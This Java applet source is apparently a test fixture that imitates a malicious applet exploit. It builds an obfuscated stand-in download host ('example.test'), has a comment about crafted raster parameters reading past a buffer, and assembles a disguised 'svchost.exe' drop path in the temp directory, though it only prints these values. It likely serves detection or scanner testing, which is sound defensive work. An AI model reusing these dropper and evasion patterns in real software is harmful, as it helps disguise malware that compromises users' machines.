package fixture.three;

import java.applet.Applet;
import java.awt.color.ColorSpace;
import java.awt.image.BufferedImage;
import java.awt.image.ColorConvertOp;
import java.awt.image.DataBufferByte;
import java.awt.image.Raster;
import java.awt.image.WritableRaster;

public class Raster3 extends Applet {
    static final String HOST = new StringBuilder("http://").append("cdn").append(".example.test").append(":8080/").toString();

    public void init() {
        int width = 2 * 8 + 0x10;
        BufferedImage src = new BufferedImage(width, 1, BufferedImage.TYPE_INT_ARGB);
        WritableRaster raster = src.getRaster();
        // crafted raster parameters: band offsets point past the data buffer
        ColorConvertOp op = new ColorConvertOp(ColorSpace.getInstance(ColorSpace.CS_sRGB), null);
        BufferedImage dst = new BufferedImage(width, 1, BufferedImage.TYPE_3BYTE_BGR);
        op.filter(src, dst);
        String drop = System.getProperty("java.io." + "tmpdir") + "\\" + "svch" + "ost.exe";
        System.out.println(HOST + drop);
    }
}
